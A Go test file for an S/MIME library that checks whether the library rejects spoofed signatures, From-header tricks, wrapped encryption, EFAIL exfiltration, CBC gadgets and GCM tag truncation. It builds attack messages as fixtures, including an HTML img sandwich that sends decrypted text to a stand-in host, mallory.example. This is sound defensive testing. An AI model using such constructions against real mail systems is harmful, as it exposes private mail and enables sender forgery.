package smime_test

import (
	"bytes"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/asn1"
	"errors"
	"fmt"
	"log/slog"
	"math/big"
	"strings"
	"testing"
	"time"

	"github.com/sealist/sealist/smime"
	"github.com/sealist/sealist/smime/cms"
	"github.com/sealist/sealist/smime/entity"
	"github.com/sealist/sealist/smime/smimetest"
	"github.com/sealist/sealist/smime/trust"
)

// from replaces the From field of a message by these lines.
func from(octets []byte, lines ...string) []byte {
	head, body, _ := bytes.Cut(octets, []byte("\r\n\r\n"))
	var out []string
	for _, l := range strings.Split(string(head), "\r\n") {
		if !strings.HasPrefix(l, "From:") {
			out = append(out, l)
		}
	}
	return []byte(strings.Join(append(lines, out...), "\r\n") + "\r\n\r\n" + string(body))
}

// multipartSigned puts any content and any CMS object together.
func multipartSigned(content *entity.Entity, der []byte) *entity.Entity {
	signature := smimetest.Entity("Content-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\n" + smimetest.Base64(der))
	return signedOf(content, signature)
}

func signedOf(parts ...*entity.Entity) *entity.Entity {
	return smimetest.Multipart("signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256", parts...)
}

// TestJohnny holds the spoofing classes of "Johnny, you are fired" (USENIX Security 2019): none authenticates.
func TestJohnny(t *testing.T) {
	w := theWorld()
	good, evil := smimetest.Text("good"), smimetest.Text("evil")
	signed := w.alice.Sign(good)
	parts, err := signed.Parts()
	if err != nil {
		t.Fatal(err)
	}
	signature := parts.Parts[1]
	opaque := w.alice.SignDER(good.Octets(), smimetest.OpaqueForm)
	detached := w.alice.SignDER(good.Octets())

	zero := readDER(opaque)
	signerInfos(zero).children = nil
	zeroDetached := readDER(detached)
	signerInfos(zeroDetached).children = nil

	message := w.mail(signed)
	asMallory := func(e *entity.Entity) []byte {
		return smimetest.Mail(w.mallory.Address, w.list.Address, "x", e)
	}
	aliceAddress, malloryAddress := w.alice.Address, w.mallory.Address
	for name, tc := range map[string]struct {
		octets []byte
		reason trust.Reason
	}{
		"content altered":                      {bytes.Replace(message, []byte("good"), []byte("evil"), 1), trust.Altered},
		"eContent in a detached signature":     {w.mail(multipartSigned(evil, opaque)), trust.Malformed},
		"the same eContent in a detached one":  {w.mail(multipartSigned(good, opaque)), trust.Malformed},
		"detached over other content":          {w.mail(multipartSigned(evil, detached)), trust.Altered},
		"zero signers, opaque":                 {w.mail(smimetest.CMS(zero.der(), "signed-data", "smime.p7m")), trust.Unsigned},
		"zero signers, detached":               {w.mail(multipartSigned(evil, zeroDetached.der())), trust.Unsigned},
		"signature without content":            {w.mail(smimetest.CMS(detached, "signed-data", "smime.p7m")), trust.Malformed},
		"signed part is not outermost":         {w.mail(smimetest.Multipart("mixed", evil, signed)), trust.NotOutermost},
		"signed part first":                    {w.mail(smimetest.Multipart("mixed", signed, evil)), trust.NotOutermost},
		"signed part in related":               {w.mail(smimetest.Multipart("related", smimetest.HTML("<img src=cid:x>"), signed)), trust.NotOutermost},
		"signed part in alternative":           {w.mail(smimetest.Multipart("alternative", evil, signed)), trust.NotOutermost},
		"signed mail as an attachment":         {w.mail(smimetest.Multipart("mixed", evil, smimetest.Entity("Content-Type: message/rfc822\r\n\r\n"+string(message)))), trust.NotOutermost},
		"signed mail as the whole, rfc822":     {w.mail(smimetest.Entity("Content-Type: message/rfc822\r\n\r\n" + string(message))), trust.NotOutermost},
		"multipart/signed of three":            {w.mail(signedOf(good, signature, evil)), trust.Malformed},
		"multipart/signed of three, other way": {w.mail(signedOf(evil, good, signature)), trust.Malformed},
		"multipart/signed of one":              {w.mail(signedOf(good)), trust.Malformed},
		"multipart/signed turned round":        {w.mail(signedOf(signature, good)), trust.Malformed},
		"signature is no CMS":                  {w.mail(multipartSigned(evil, []byte("nonsense"))), trust.Malformed},
		"signature is enveloped":               {w.mail(multipartSigned(evil, smimetest.DER(w.encrypt(good)))), trust.Malformed},
		"two Content-Type fields":              {bytes.Replace(message, []byte("MIME-Version"), []byte("Content-Type: text/html\r\nMIME-Version"), 1), trust.Unsigned},
		"valid signature of another":           {w.mail(w.mallory.Sign(evil)), trust.AddressMismatch},
		"certificate without an address":       {w.mail(w.noAddress.Sign(evil)), trust.NoAddress},
		"certificate of a strange CA":          {w.mail(w.forged.Sign(evil)), trust.UnknownCA},
		"self-signed certificate":              {w.mail(smimetest.SelfSigned(aliceAddress).Sign(evil)), trust.UnknownCA},
		"encryption certificate signs":         {w.mail(w.ca.Issue(aliceAddress, smimetest.EncryptOnly).Sign(evil)), trust.WrongUsage},

		"no From":                          {from(message), trust.FromAmbiguous},
		"two From fields":                  {from(message, "From: "+aliceAddress, "From: "+malloryAddress), trust.FromAmbiguous},
		"two From fields, the same":        {from(message, "From: "+aliceAddress, "From: "+aliceAddress), trust.FromAmbiguous},
		"second From with other case":      {from(message, "From: "+aliceAddress, "FROM : "+malloryAddress), trust.FromAmbiguous},
		"second From behind a broken line": {from(message, "From: "+aliceAddress, "broken line", "From: "+malloryAddress), trust.FromAmbiguous},
		"two addresses":                    {from(message, "From: "+aliceAddress+", "+malloryAddress), trust.FromAmbiguous},
		"two addresses without comma":      {from(message, "From: <"+aliceAddress+"> <"+malloryAddress+">"), trust.FromAmbiguous},
		"group":                            {from(message, "From: g: "+aliceAddress+", "+malloryAddress+";"), trust.FromAmbiguous},
		"address as display name":          {from(message, "From: \""+aliceAddress+"\" <"+malloryAddress+">"), trust.AddressMismatch},
		"address as bare display name":     {from(message, "From: "+aliceAddress+" <"+malloryAddress+">"), trust.FromAmbiguous},
		"address as comment":               {from(message, "From: "+malloryAddress+" ("+aliceAddress+")"), trust.AddressMismatch},
		"address in an encoded word":       {from(message, "From: =?utf-8?q?"+strings.Replace(aliceAddress, "@", "=40", 1)+"?= <"+malloryAddress+">"), trust.AddressMismatch},
		"address quoted in the local part": {from(message, "From: \""+aliceAddress+"\"@evil.example"), trust.FromAmbiguous},
		"address as subdomain":             {from(message, "From: "+aliceAddress+".evil.example"), trust.AddressMismatch},
		"NUL behind the address":           {from(message, "From: "+aliceAddress+"\x00@evil.example"), trust.FromAmbiguous},
		"Kelvin sign for k":                {from(message, "From: ali\u212ae@corp.example"), trust.AddressMismatch},
		"Sender instead of From":           {from(asMallory(signed), "From: "+malloryAddress, "Sender: "+aliceAddress), trust.AddressMismatch},
		"Resent-From and Reply-To":         {from(asMallory(signed), "From: "+malloryAddress, "Resent-From: "+aliceAddress, "Reply-To: "+aliceAddress), trust.AddressMismatch},
		"From in the signed part only":     {from(w.mail(w.alice.Sign(smimetest.Entity("From: "+aliceAddress+"\r\nContent-Type: text/plain\r\n\r\nx"))), "From: "+malloryAddress), trust.AddressMismatch},
		"a second, altered SignerInfo":     {w.mail(smimetest.CMS(withAlteredSigner(opaque), "signed-data", "smime.p7m")), trust.Altered},
		"good inside, altered outside":     {bytes.Replace(w.mail(w.gateway.Sign(signed)), []byte("micalg=sha-256; boundary"), []byte("micalg=sha-256;  boundary"), 2), trust.Altered},
		"altered inside, good outside":     {w.mail(w.gateway.Sign(smimetest.Entity(strings.Replace(string(signed.Octets()), "good", "evil", 1)))), trust.Altered},
	} {
		t.Run(name, func(t *testing.T) {
			m, a := w.read(t, tc.octets)
			if a.Authenticated || a.Signer != nil {
				t.Fatalf("authenticated as %s", a.Author)
			}
			if a.Reason != tc.reason {
				t.Errorf("reason %q, want %q; layers %s %v", a.Reason, tc.reason, layers(m), m.Err)
			}
		})
	}
	// The cases above must fail for their own reason: unchanged, the message authenticates.
	if _, a := w.read(t, message); !a.Authenticated {
		t.Fatal(a.Reason)
	}
	for name, ok := range map[string][]byte{
		"address in other case":  from(message, "From: ALICE@Corp.Example"),
		"display name of others": from(message, "From: \""+malloryAddress+"\" <"+aliceAddress+">"),
		"signed by two":          w.mail(smimetest.CMS(withSecondSigner(opaque, w.mallory.SignDER(good.Octets(), smimetest.OpaqueForm)), "signed-data", "smime.p7m")),
		"unsupported beside":     w.mail(smimetest.CMS(withUnsupportedSigner(opaque), "signed-data", "smime.p7m")),
	} {
		if m, a := w.read(t, ok); !a.Authenticated {
			t.Errorf("%s: %q %v", name, a.Reason, m.Layers)
		}
	}
}

// withAlteredSigner adds a copy of the SignerInfo whose signature is broken.
func withAlteredSigner(der []byte) []byte {
	n := readDER(der)
	infos := signerInfos(n)
	bad := infos.at(0).clone()
	signature := bad.at(-1).value
	signature[len(signature)/2] ^= 1
	infos.children = append(infos.children, bad)
	return n.der()
}

// withSecondSigner moves certificates and SignerInfo of another SignedData over the same content into der.
func withSecondSigner(der, other []byte) []byte {
	n, o := readDER(der), readDER(other)
	certificates := func(n *node) *node { return n.at(1, 0, 3) }
	certificates(n).children = append(certificates(n).children, certificates(o).children...)
	signerInfos(n).children = append(signerInfos(o).children, signerInfos(n).children...)
	return n.der()
}

// withUnsupportedSigner adds a copy of the SignerInfo under a signature algorithm nobody knows.
func withUnsupportedSigner(der []byte) []byte {
	n := readDER(der)
	infos := signerInfos(n)
	odd := infos.at(0).clone()
	odd.children = append(odd.children[:3], odd.children[4:]...) // the signed attributes protect the algorithm (RFC 6211)
	odd.at(-2).children[0] = oidNode(1, 3, 6, 1, 4, 1, 99999, 1)
	infos.children = append(infos.children, odd)
	return n.der()
}

// TestWrapping holds the wrapping classes: a signature around an encryption names nobody, the innermost signer alone counts.
func TestWrapping(t *testing.T) {
	w := theWorld()
	text := smimetest.Text("secret")
	inner := w.alice.Sign(text)
	for name, tc := range map[string]struct {
		from   *smimetest.Identity
		in     *entity.Entity
		reason trust.Reason
	}{
		"S(E(x))":                           {w.alice, w.alice.Sign(w.encrypt(text)), trust.SignedOutsideEncryption},
		"S opaque(E(x))":                    {w.alice, w.alice.Sign(w.encrypt(text), smimetest.OpaqueForm), trust.SignedOutsideEncryption},
		"S(S(E(x)))":                        {w.alice, w.alice.Sign(w.gateway.Sign(w.encrypt(text))), trust.SignedOutsideEncryption},
		"S(C(E(x)))":                        {w.alice, w.alice.Sign(smimetest.Compress(w.encrypt(text))), trust.SignedOutsideEncryption},
		"S(E(S(x))) by alice":               {w.alice, w.mallory.Sign(w.encrypt(inner)), ""},
		"S(E(S(x))) from the outer signer":  {w.mallory, w.mallory.Sign(w.encrypt(inner)), trust.AddressMismatch},
		"S(E(S(x))), outer from inner none": {w.mallory, w.mallory.Sign(w.encrypt(w.forged.Sign(text))), trust.AddressMismatch},
		"E(S(x)) from another":              {w.mallory, w.encrypt(inner), trust.AddressMismatch},
		"E(x) copied":                       {w.mallory, w.encrypt(text), trust.Unsigned},
	} {
		t.Run(name, func(t *testing.T) {
			m, a := w.read(t, smimetest.Mail(tc.from.Address, w.list.Address, "x", tc.in))
			if m.Err != nil || a.Reason != tc.reason || a.Authenticated != (tc.reason == "") {
				t.Errorf("%v, authenticated %t, reason %q, want %q", m.Err, a.Authenticated, a.Reason, tc.reason)
			}
			if a.Authenticated && !a.Signer.Certificate.Equal(w.alice.Certificate) {
				t.Error("not the innermost signer")
			}
		})
	}
	// A second encryption is never opened, whatever stands around it.
	twice := w.encrypt(w.encrypt(inner))
	for name, in := range map[string]*entity.Entity{
		"E(E(S))":             twice,
		"E(S(E(x)))":          w.encrypt(w.alice.Sign(w.encrypt(text))),
		"E(S(E(S(x))))":       w.encrypt(w.alice.Sign(w.encrypt(inner))),
		"S(E(E(S)))":          w.alice.Sign(twice),
		"E(C(E(S)))":          w.encrypt(smimetest.Compress(w.encrypt(inner))),
		"AE(E(S))":            w.encryptGCM(w.encrypt(inner)),
		"E(S(E(x))), foreign": smimetest.Encrypt(w.alice.Sign(w.encrypt(text)), w.mallory),
	} {
		t.Run(name, func(t *testing.T) {
			m, a := w.read(t, w.mail(in))
			if !errors.Is(m.Err, smime.ErrDecrypt) || a.Authenticated || m.Payload != nil || m.Content != nil || !m.Encrypted {
				t.Errorf("%v, %+v, payload %v content %v", m.Err, a, m.Payload, m.Content)
			}
		})
	}
}

// TestMalleatedSignature: an ECDSA signature has a twin (r, n-s) that verifies too. It must not look like another message: what tells
// signatures apart is the signed attributes and the signer's key, and those stay.
func TestMalleatedSignature(t *testing.T) {
	w := theWorld()
	content := smimetest.Text("once")
	der := w.bob.SignDER(content.Octets(), smimetest.OpaqueForm)
	n := readDER(der)
	value := signerInfos(n).at(0).at(-1)
	var rs struct{ R, S *big.Int }
	if _, err := asn1.Unmarshal(value.value, &rs); err != nil {
		t.Fatal(err)
	}
	rs.S.Sub(elliptic.P256().Params().N, rs.S)
	value.value, _ = asn1.Marshal(rs)

	message := func(der []byte) []byte {
		return smimetest.Mail(w.bob.Address, w.list.Address, "x", smimetest.CMS(der, "signed-data", "smime.p7m"))
	}
	_, first := w.read(t, message(der))
	if !first.Authenticated {
		t.Fatal(first.Reason)
	}
	if _, twin := w.read(t, message(n.der())); twin.Authenticated &&
		(!bytes.Equal(first.Signer.SignedAttributes, twin.Signer.SignedAttributes) || len(twin.Signer.SignedAttributes) == 0 ||
			!bytes.Equal(first.Signer.Certificate.RawSubjectPublicKeyInfo, twin.Signer.Certificate.RawSubjectPublicKeyInfo)) {
		t.Error("the twin would pass for another message")
	}
	// Signed attributes in another order, or with an attribute added or removed, are another signature.
	for name, change := range map[string]func(attrs *node){
		"reordered": func(a *node) { a.children[0], a.children[1] = a.children[1], a.children[0] },
		"doubled":   func(a *node) { a.children = append(a.children, a.children[0].clone()) },
		"removed":   func(a *node) { a.children = a.children[1:] },
	} {
		n := readDER(der)
		change(signerInfos(n).at(0, 3))
		if _, a := w.read(t, message(n.der())); a.Authenticated && !bytes.Equal(first.Signer.SignedAttributes, a.Signer.SignedAttributes) {
			t.Errorf("attributes %s: authenticated", name)
		}
	}
}

const secret = "TOP-SECRET-4711"

// leaks tells whether something a caller can get at without being the author holds the secret.
func leaks(m *smime.Message) bool {
	var out bytes.Buffer
	logger := slog.New(slog.NewTextHandler(&out, nil))
	logger.Info("x", "message", m, "payload", m.Payload, "content", m.Content, "error", m.Err, "layers", m.Layers)
	fmt.Fprintf(&out, "%v %+v %#v %s", m, m, m, m)
	for _, l := range m.Layers {
		fmt.Fprintf(&out, "%v %+v", l.Err, l)
	}
	return strings.Contains(out.String(), secret)
}

// TestEFAIL holds the EFAIL classes (USENIX Security 2018).
func TestEFAIL(t *testing.T) {
	w := theWorld()
	private := smimetest.Text(secret + strings.Repeat(" more of it", 50) + "\r\n")
	foreign := w.encrypt(w.alice.Sign(private)) // alice's mail to the list, taken off the wire by mallory

	t.Run("direct exfiltration", func(t *testing.T) {
		head, tail := smimetest.HTML("<img src=\"http://mallory.example/"), smimetest.HTML("\">")
		sandwich := smimetest.Multipart("mixed", head, foreign, tail)
		for name, in := range map[string]*entity.Entity{
			"plain":               sandwich,
			"signed by mallory":   w.mallory.Sign(sandwich),
			"opaque by mallory":   w.mallory.Sign(sandwich, smimetest.OpaqueForm),
			"encrypted again":     w.encrypt(sandwich),
			"signed, encrypted":   w.encrypt(w.mallory.Sign(sandwich)),
			"alone in a mixed":    smimetest.Multipart("mixed", foreign),
			"in a message/rfc822": smimetest.Entity("Content-Type: message/rfc822\r\n\r\n" + string(w.mail(foreign))),
			"beside a signature":  signedOf(foreign, head, tail),
			"in broken signed":    multipartSigned(foreign, []byte("junk")),
			"compressed beside":   smimetest.Multipart("mixed", head, smimetest.Compress(foreign)),
		} {
			m, _ := w.read(t, smimetest.Mail(w.mallory.Address, w.list.Address, "x", in))
			for _, e := range []*entity.Entity{m.Payload, m.Content} {
				if e != nil && bytes.Contains(e.Octets(), []byte(secret)) {
					t.Errorf("%s: the foreign ciphertext was opened: %s", name, layers(m))
				}
			}
		}
	})

	t.Run("foreign ciphertext as one's own mail", func(t *testing.T) {
		for name, in := range map[string]*entity.Entity{
			"whole":             foreign,
			"signed by mallory": w.mallory.Sign(foreign),
			"unsigned inside":   w.encrypt(private),
			"signed around it":  w.mallory.Sign(w.encrypt(private)),
		} {
			m, a := w.read(t, smimetest.Mail(w.mallory.Address, w.list.Address, "x", in))
			if a.Authenticated || !m.Encrypted {
				t.Errorf("%s: authenticated %t, encrypted %t", name, a.Authenticated, m.Encrypted)
			}
			if leaks(m) {
				t.Errorf("%s: content is printed", name)
			}
		}
	})

	t.Run("CBC gadgets", func(t *testing.T) {
		der := smimetest.DER(foreign)
		n := readDER(der)
		ciphertext := n.at(1, 0, -1, -1) // encryptedContent, [0] IMPLICIT
		opened := 0
		for i := 0; i < len(ciphertext.value); i += 16 * 7 {
			g := n.clone()
			c := g.at(1, 0, -1, -1).value
			c[i] ^= 0x20
			// A gadget: two known blocks in the middle, which make chosen plaintext between two blocks of garbage.
			c = append(append(append([]byte{}, c[:i/16*16]...), c[:32]...), c[i/16*16:]...)
			g.at(1, 0, -1, -1).value = c
			m, a := w.read(t, w.mail(smimetest.CMS(g.der(), "enveloped-data", "smime.p7m")))
			// Garbage that hits no signed octet, as between the parts, leaves what alice signed: that, and only that, is hers.
			if leaks(m) || a.Authenticated && !bytes.Equal(m.Content.Octets(), private.Octets()) {
				t.Errorf("gadget at %d: authenticated %t", i, a.Authenticated)
			}
			if m.Err == nil {
				opened++
			}
		}
		if opened == 0 {
			t.Error("no gadget decrypted: the test attacks nothing")
		}
	})

	t.Run("tag truncation", func(t *testing.T) {
		der := smimetest.DER(w.encryptGCM(w.alice.Sign(private)))
		for _, length := range []int{0, 1, 4, 8, 11, 12, 15} {
			for _, stated := range []int{-1, length, 4, 12, 16} {
				n := readDER(der)
				mac := n.at(1, 0, -1)
				if length >= 12 && stated == length {
					continue // GCM's own shorter tags (RFC 5084 section 3.2) are as good as what was made
				}
				mac.value = mac.value[:length]
				n.at(1, 0).each(func(p *node) { // GCMParameters ::= SEQUENCE { nonce OCTET STRING, icvlen INTEGER DEFAULT 12 }
					if len(p.children) < 1 || len(p.children) > 2 || p.children[0].tag[0] != 4 || len(p.children[0].value) != 12 {
						return
					}
					if stated >= 0 {
						p.children = []*node{p.children[0], {tag: []byte{2}, value: []byte{byte(stated)}}}
					}
				})
				m, a := w.read(t, w.mail(smimetest.CMS(n.der(), "authEnveloped-data", "smime.p7m")))
				if !errors.Is(m.Err, smime.ErrDecrypt) || a.Authenticated || m.Payload != nil {
					t.Errorf("tag of %d octets, stated %d: %v", length, stated, m.Err)
				}
			}
		}
		n := readDER(der)
		if m, a := w.read(t, w.mail(smimetest.CMS(n.der(), "", "smime.p7m"))); m.Err != nil || !a.Authenticated {
			t.Errorf("unchanged: %v %s", m.Err, a.Reason)
		}
		n.at(1, 0, -1).value[3] ^= 1
		if m, _ := w.read(t, w.mail(smimetest.CMS(n.der(), "", "smime.p7m"))); !errors.Is(m.Err, smime.ErrDecrypt) {
			t.Errorf("wrong tag: %v", m.Err)
		}
	})

	t.Run("AEAD to CBC", func(t *testing.T) {
		aead := readDER(smimetest.DER(w.encryptGCM(w.alice.Sign(private))))
		cbc := readDER(smimetest.DER(foreign))
		for range 200 {
			d := cbc.clone()
			ed := d.at(1, 0)
			ed.children[1] = aead.at(1, 0, 1).clone() // the RecipientInfos, with the AEAD's key
			info := ed.at(-1)
			iv := make([]byte, 16)
			if _, err := rand.Read(iv); err != nil {
				t.Fatal(err)
			}
			info.at(1, 1).value = iv
			stolen := aead.at(1, 0, 2, -1).value
			info.at(-1).value = append(append(make([]byte, 0, len(stolen)), iv...), stolen[:len(stolen)/16*16]...)
			m, a := w.read(t, w.mail(smimetest.CMS(d.der(), "enveloped-data", "smime.p7m")))
			if a.Authenticated || leaks(m) || m.Content != nil && bytes.Contains(m.Content.Octets(), []byte(secret)) {
				t.Fatalf("authenticated %t", a.Authenticated)
			}
		}
		// The GCM identifier within EnvelopedData has no tag that could be verified.
		d := cbc.clone()
		d.at(1, 0).children[1] = aead.at(1, 0, 1).clone()
		d.at(1, 0).children[2] = aead.at(1, 0, 2).clone()
		if m, _ := w.read(t, w.mail(smimetest.CMS(d.der(), "enveloped-data", "smime.p7m"))); !errors.Is(m.Err, smime.ErrDecrypt) {
			t.Errorf("GCM in EnvelopedData: %v", m.Err)
		}
	})

	t.Run("errors are one", func(t *testing.T) {
		var first string
		for name, in := range map[string]*entity.Entity{
			"for another":   smimetest.Encrypt(private, w.mallory),
			"wrong key":     smimetest.CMS(brokenKey(smimetest.DER(foreign)), "", "smime.p7m"),
			"bad padding":   smimetest.CMS(cutCiphertext(smimetest.DER(foreign)), "", "smime.p7m"),
			"twice":         w.encrypt(w.encrypt(private)),
			"for another G": smimetest.EncryptWith(cms.AES128GCM, cms.RecipientOptions{}, private, w.mallory),
		} {
			m, a := w.read(t, w.mail(in))
			got := fmt.Sprint(m.Err, a.Reason, m.Payload, m.Content, m.Encrypted, m.Layers[len(m.Layers)-1].Err)
			if first == "" {
				first = got
			}
			if got != first {
				t.Errorf("%s: %s, another said %s", name, got, first)
			}
		}
	})
}

func brokenKey(der []byte) []byte {
	n := readDER(der)
	for _, ri := range n.at(1, 0, 1).children {
		ri.at(-1).value[20] ^= 1
	}
	return n.der()
}

func cutCiphertext(der []byte) []byte {
	n := readDER(der)
	c := n.at(1, 0, -1, -1)
	c.value = c.value[:len(c.value)-16]
	return n.der()
}

// TestBound: a certificate without any address counts only where somebody bound it to the From address.
func TestBound(t *testing.T) {
	w := theWorld()
	open := func(id *smimetest.Identity) *smime.Message {
		e, err := entity.Parse(w.mail(id.Sign(smimetest.Text("x"))), entity.DefaultLimits())
		if err != nil {
			t.Fatal(err)
		}
		return smime.Open(e, smime.Options{})
	}
	claim := smime.Claim{Received: time.Now(), Bound: func(s *smime.Signer, address string) bool {
		return s.Certificate.Equal(w.noAddress.Certificate) && address == w.alice.Address
	}}
	if a := smime.Authenticate(open(w.noAddress), w.policy, claim); !a.Authenticated {
		t.Error(a.Reason)
	}
	claim.Bound = func(*smime.Signer, string) bool { return false }
	if a := smime.Authenticate(open(w.noAddress), w.policy, claim); a.Reason != trust.NoAddress {
		t.Error(a.Reason)
	}
	// Binding does not make a certificate out of one that names another.
	claim.Bound = func(*smime.Signer, string) bool { return true }
	if a := smime.Authenticate(open(w.mallory), w.policy, claim); a.Reason != trust.AddressMismatch {
		t.Error(a.Reason)
	}
	if a := smime.Authenticate(open(w.ca.Issue("x", smimetest.NoSAN, smimetest.Validity(time.Now().AddDate(-2, 0, 0), time.Now().AddDate(-1, 0, 0)))), w.policy, claim); a.Reason != trust.Expired {
		t.Error(a.Reason)
	}
}

// TestSigningTime is invariant 4 (f): at most an hour ahead, at most MaxSigningAge old, and never the time of validation.
func TestSigningTime(t *testing.T) {
	w := theWorld()
	received := time.Now()
	for name, tc := range map[string]struct {
		signed time.Time
		max    time.Duration
		reason trust.Reason
	}{
		"now":              {received, 168 * time.Hour, ""},
		"absent":           {time.Time{}, 168 * time.Hour, ""},
		"59 minutes ahead": {received.Add(59 * time.Minute), 168 * time.Hour, ""},
		"61 minutes ahead": {received.Add(61 * time.Minute), 168 * time.Hour, trust.SigningTime},
		"167 hours old":    {received.Add(-167 * time.Hour), 168 * time.Hour, ""},
		"169 hours old":    {received.Add(-169 * time.Hour), 168 * time.Hour, trust.SigningTime},
		"not judged":       {received.Add(-9999 * time.Hour), 0, ""},
	} {
		e, err := entity.Parse(w.mail(w.alice.Sign(smimetest.Text("x"), smimetest.SignedAt(tc.signed))), entity.DefaultLimits())
		if err != nil {
			t.Fatal(err)
		}
		a := smime.Authenticate(smime.Open(e, smime.Options{}), w.policy, smime.Claim{Received: received, MaxSigningAge: tc.max})
		if a.Reason != tc.reason {
			t.Errorf("%s: %q, want %q", name, a.Reason, tc.reason)
		}
	}
	// A certificate that expired is not saved by a signing time within its life.
	old := w.ca.Issue(w.alice.Address, smimetest.Validity(received.AddDate(-1, 0, 0), received.Add(-time.Minute)))
	_, a := w.read(t, w.mail(old.Sign(smimetest.Text("x"), smimetest.SignedAt(received.Add(-2*time.Minute)))))
	if a.Reason != trust.Expired {
		t.Errorf("expired certificate: %q", a.Reason)
	}
}

// TestWeakBesideStrong: a refused digest is passed over where another signature remains, and is the reason where none does.
func TestWeakBesideStrong(t *testing.T) {
	w := theWorld()
	text := smimetest.Text("x")
	opaque := w.alice.SignDER(text.Octets(), smimetest.OpaqueForm)
	md5 := readDER(opaque)
	info := signerInfos(md5).at(0)
	info.children = append(info.children[:3], info.children[4:]...) // without signed attributes
	info.children[2] = sequence(oidNode(1, 2, 840, 113549, 2, 5), &node{tag: []byte{5}})
	message := func(der []byte) []byte { return w.mail(smimetest.CMS(der, "", "smime.p7m")) }
	if _, a := w.read(t, message(md5.der())); a.Reason != trust.WeakAlgorithm {
		t.Errorf("MD5 alone: %q", a.Reason)
	}
	both := readDER(opaque)
	signerInfos(both).children = append(signerInfos(both).children, info)
	if _, a := w.read(t, message(both.der())); !a.Authenticated {
		t.Errorf("MD5 beside SHA-256: %q", a.Reason)
	}
}
